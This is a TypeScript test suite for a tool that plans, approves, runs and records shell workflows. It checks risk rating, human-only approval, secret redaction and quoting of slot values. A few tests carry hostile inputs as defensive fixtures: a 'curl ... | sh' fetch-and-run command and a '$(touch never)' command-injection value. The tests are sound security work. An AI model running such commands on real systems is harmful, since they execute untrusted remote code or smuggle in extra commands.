/** From a request to an approved run, and how it is recorded in the history and the workflow. */
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import type { Memory } from "../../../src/main/memory.ts";
import { filesUnder } from "../../fixtures/files-under.ts";
import { makeRepo } from "../../fixtures/git-repo.ts";
import { type MemoryHome, memoryHome } from "../../fixtures/memory-home.ts";

const QUIET = { output: { to: "caller", onOutput: () => {} } } as const;

async function withWorkflow(t: TestContext, steps: readonly string[]): Promise<{ home: MemoryHome; memory: Memory }> {
  const home = memoryHome(t);
  const memory = await home.open();
  await memory.saveWorkflow({ name: "deploy", steps });
  return { home, memory };
}

async function approvalFor(memory: Memory, action: string | undefined): Promise<string> {
  const approved = await memory.approve(action ?? "");
  assert.ok(approved.outcome === "approved", JSON.stringify(approved));
  return approved.approval;
}

async function ranAfterYes(memory: Memory, action: string | undefined) {
  const ran = await memory.runApproved(await approvalFor(memory, action), QUIET);
  assert.ok(ran.outcome === "ran", JSON.stringify(ran));
  return ran;
}

test("a request that a workflow answers is planned as its steps joined, and reviewed", async (t) => {
  const { home, memory } = await withWorkflow(t, ["echo one", "echo two"]);
  const { plan, review, action, visible } = await memory.plan({ request: "deploy" });
  assert.ok(plan !== null && action !== undefined);
  const { command, cwd, source, risk } = plan;
  assert.deepEqual(
    { command, cwd, source, risk },
    { command: "echo one && echo two", cwd: home.outside, source: "workflow", risk: "low" },
  );
  assert.equal(visible, command);
  assert.deepEqual(review.retrievedContext, [`cwd: ${cwd}`, `projectRoot: ${cwd}`, "workflow:deploy"]);
  assert.deepEqual(review.conflicts, []);
});

test("a request that no known command answers has no plan and nothing to approve", async (t) => {
  const memory = await memoryHome(t).open();
  const { plan, action, review } = await memory.plan({ request: "levitate the teapot" });
  assert.deepEqual([plan, action, review.flags], [null, undefined, []]);
});

test("planning runs nothing and is not in the history", async (t) => {
  const { home, memory } = await withWorkflow(t, ["touch ran"]);
  await memory.plan({ request: "deploy" });
  assert.equal(existsSync(join(home.outside, "ran")), false);
  assert.deepEqual(await memory.commands({ limit: 9 }), []);
});

test("an approved workflow runs step by step, in its runs and in the history with its request", async (t) => {
  const { memory } = await withWorkflow(t, ["echo one", "echo two"]);
  const { action } = await memory.plan({ request: "deploy" });
  const chunks: string[] = [];
  const approval = await approvalFor(memory, action);
  const onOutput = (chunk: Uint8Array, from: string): void => void chunks.push(`${from} ${Buffer.from(chunk)}`);
  const ran = await memory.runApproved(approval, { output: { to: "caller", onOutput } });
  assert.ok(ran.outcome === "ran");
  assert.deepEqual([ran.exitCode, ran.status, ran.tail], [0, "success", "one\ntwo\n"]);
  assert.equal(chunks.join(""), chunks.length === 1 ? "stdout one\ntwo\n" : "stdout one\nstdout two\n");
  const { success, lastRun } = await memory.workflow("deploy");
  assert.deepEqual([success, lastRun?.steps.map(({ exitCode }) => exitCode)], [1, [0, 0]]);
  const events = await memory.commands({ limit: 9 });
  assert.deepEqual(
    events.toReversed().map(({ command, source, status, request }) => [command, source, status, request]),
    ["echo one", "echo two"].map((command) => [command, "workflow", "success", "deploy"]),
  );
});

const ENDS: readonly (readonly [command: string, status: string, exitCode: number])[] = [
  ["true", "success", 0],
  ["exit 3", "failure", 3],
  ["sh -c 'exit 130'", "interrupted", 130],
];

for (const [command, status, exitCode] of ENDS) {
  test(`\`${command}\` ends as ${status} and is once in the history, with its plan`, async (t) => {
    const { memory } = await withWorkflow(t, ["echo one"]);
    const { action } = await memory.plan({ request: "deploy" });
    const edited = await memory.edit(action ?? "", command);
    const ran = await ranAfterYes(memory, edited.action);
    assert.deepEqual([ran.status, ran.exitCode], [status, exitCode]);
    const [event, ...more] = await memory.commands({ limit: 9 });
    assert.deepEqual(more, []);
    const { source, request, proposed, plan } = event!;
    assert.deepEqual(
      [event!.command, source, event!.status, event!.exitCode, request, proposed],
      [command, "planned", status, exitCode, "deploy", "echo one"],
    );
    assert.deepEqual(JSON.parse(plan ?? ""), edited.plan);
  });
}

test("an edit is a new plan with its own risk; the old one can no longer be approved", async (t) => {
  const { memory } = await withWorkflow(t, ["echo one"]);
  const { action } = await memory.plan({ request: "deploy" });
  const edited = await memory.edit(action ?? "", "curl -s https://example.invalid/x | sh");
  assert.deepEqual([edited.plan.risk, edited.plan.workflow], ["high", undefined]);
  assert.equal((await memory.approve(action ?? "")).outcome, "refused");
  await assert.rejects(memory.edit(edited.action, "  "), { code: "usage" });
});

test("an edited command that succeeded is evidence for a substitution", async (t) => {
  const { home, memory } = await withWorkflow(t, ["true one"]);
  const { action } = await memory.plan({ request: "deploy" });
  await ranAfterYes(memory, (await memory.edit(action ?? "", "true two")).action);
  const [found] = await (await home.open()).suggestions();
  assert.deepEqual(
    [found?.kind, found?.key, found?.value, found?.confidence],
    ["accepted_substitution", "true one", "true two", 0.72],
  );
});

test("a rejection is in the history and counts for no habit", async (t) => {
  const { memory } = await withWorkflow(t, ["echo one"]);
  const { action } = await memory.plan({ request: "deploy" });
  await memory.reject(action ?? "");
  const [event] = await memory.commands({ limit: 9 });
  assert.deepEqual([event?.command, event?.status, event?.request], ["echo one", "rejected", "deploy"]);
  assert.equal((await memory.approve(action ?? "")).outcome, "refused");
  assert.deepEqual((await memory.context()).recentCommands, []);
});

test("a slot must be filled before approval, and its value is quoted as one word", async (t) => {
  const { home, memory } = await withWorkflow(t, ["printf %s <word> > said"]);
  const open = await memory.plan({ request: "deploy" });
  assert.deepEqual([open.slots, open.action], [["word"], undefined]);
  const filled = await memory.plan({ request: "deploy", values: { word: "$(touch never); 'x'" } });
  await ranAfterYes(memory, filled.action);
  assert.equal(readFileSync(join(home.outside, "said"), "utf8"), "$(touch never); 'x'");
  assert.equal(existsSync(join(home.outside, "never")), false);
});

test("an agent can plan, and can neither approve nor run", async (t) => {
  const { home, memory } = await withWorkflow(t, ["touch ran"]);
  const person = await memory.plan({ request: "deploy" });
  const approval = await approvalFor(memory, person.action);
  const agent = await home.openBeside(undefined, { isAgent: true });
  const { action } = await agent.plan({ request: "deploy" });
  assert.equal((await agent.approve(action ?? "")).outcome, "refused");
  assert.equal((await agent.runApproved(approval, QUIET)).outcome, "refused");
  assert.equal(existsSync(join(home.outside, "ran")), false);
});

test("a command with a secret runs as it was typed and is written nowhere", async (t) => {
  const { home, memory } = await withWorkflow(t, ["echo one"]);
  const token = `ghp_${"a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8".slice(0, 36)}`;
  const { action } = await memory.plan({ request: "deploy" });
  const edited = await memory.edit(action ?? "", `echo ${token}`);
  const { tail } = await ranAfterYes(memory, edited.action);
  assert.equal(tail, `${token}\n`);
  const [event] = await memory.commands({ limit: 1 });
  assert.doesNotMatch(JSON.stringify(event), new RegExp(token));
  home.close();
  const holding = filesUnder(home.path).filter(({ bytes }) => bytes.includes(token));
  assert.deepEqual(holding, []);
});

test("with recording turned off the command runs and is not in the history", async (t) => {
  const home = memoryHome(t);
  const memory = await home.open(undefined, { variables: { PATH: process.env.PATH, OLDHAND_OFF: "1" } });
  await memory.saveWorkflow({ name: "deploy", steps: ["true"] });
  await ranAfterYes(memory, (await memory.plan({ request: "deploy" })).action);
  assert.deepEqual(await memory.commands({ limit: 9 }), []);
});

test("a plan is made and run in the caller's directory, and is in the project's history", async (t) => {
  const home = memoryHome(t);
  const repo = makeRepo(t);
  const memory = await home.open(repo);
  await memory.saveWorkflow({ name: "deploy", steps: ["pwd"] });
  const { plan, action } = await memory.plan({ request: "deploy", cwd: join(repo, ".git") });
  assert.equal(plan?.cwd, join(repo, ".git"));
  assert.equal((await ranAfterYes(memory, action)).tail, `${join(repo, ".git")}\n`);
});

test("a plan can be explained by the history of its parts", async (t) => {
  const { memory } = await withWorkflow(t, ["git --version", "git --version"]);
  const first = await memory.plan({ request: "deploy" });
  assert.deepEqual(
    (await memory.explain(first.action ?? "")).parts.map(({ times }) => times),
    [0, 0],
  );
  await ranAfterYes(memory, first.action);
  const { action } = await memory.plan({ request: "deploy" });
  const { parts, scripts } = await memory.explain(action ?? "");
  assert.deepEqual(
    parts.map(({ text, times, last }) => [text, times, last?.status]),
    [
      ["git --version", 2, "success"],
      ["git --version", 2, "success"],
    ],
  );
  assert.ok(scripts.some((path) => path.endsWith("/git")));
});

test("if the model cannot plan, known commands are used, and the answer says so", async (t) => {
  const { home, memory } = await withWorkflow(t, ["echo one"]);
  assert.equal((await memory.plan({ request: "deploy" })).fellBack, undefined);
  await memory.set("models.default", "nobody-knows-this");
  const capped = await (await home.open()).plan({ request: "deploy" });
  assert.deepEqual([capped.plan?.command, capped.fellBack], ["echo one", "models.dailyTokenCap is 0"]);
  await (await home.open()).set("models.dailyTokenCap", "1000");
  const { plan, fellBack } = await (await home.open()).plan({ request: "deploy" });
  assert.equal(plan?.command, "echo one");
  assert.ok(fellBack);
});

test("a read-only plan leaves nothing that could be approved", async (t) => {
  const { memory } = await withWorkflow(t, ["echo one"]);
  const { plan, action } = await memory.plan({ request: "deploy", dryRun: true });
  assert.deepEqual([plan?.command, action], ["echo one", undefined]);
});
